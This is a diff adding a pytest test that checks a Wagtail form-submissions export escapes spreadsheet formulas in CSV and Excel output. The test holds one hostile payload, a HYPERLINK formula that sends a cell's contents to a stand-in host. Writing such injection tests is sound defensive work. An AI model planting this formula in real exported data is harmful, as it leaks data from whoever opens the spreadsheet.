@@ -4,6 +4,7 @@ a filled honeypot is dropped without a word; POSTs are rate-limited."""
 import pytest
 
 from django.test import override_settings
+from django.urls import reverse
 
 from wagtail.contrib.forms.models import FormSubmission
 from wagtail.models import Site
@@ -93,3 +94,33 @@ def test_posts_to_the_form_pages_are_rate_limited(client, kind, request):
         # Reading the page is not limited.
         assert client.get(page.url).status_code == 200
     assert not FormSubmission.objects.filter(page=page).exists()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+
+
+def test_the_submissions_export_writes_formulas_as_text(client, admin_client, contact):
+    """CSV injection: a name a spreadsheet would run comes out of the CSV with a leading
+    quote (OWASP), and as a text cell in the Excel file; plain answers are unchanged."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    client.post(contact.url, {**MESSAGE, "name": FORMULA, "message": "-2 +3 @home"})
+    client.post(contact.url, MESSAGE)
+    url = reverse("wagtailforms:list_submissions", args=[contact.pk])
+    headers = {"accept-language": "en"}
+
+    response = admin_client.get(url, {"export": "csv"}, headers=headers)
+    content = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(content)))
+    names = {row["Your name"]: row for row in rows}
+    assert set(names) == {"'" + FORMULA, "Ana Example"}
+    assert names["'" + FORMULA]["Message"] == "'-2 +3 @home"
+    assert names["Ana Example"]["Message"] == MESSAGE["message"]
+
+    response = admin_client.get(url, {"export": "xlsx"}, headers=headers)
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
+    assert cells and all(cell.data_type == "s" for cell in cells)
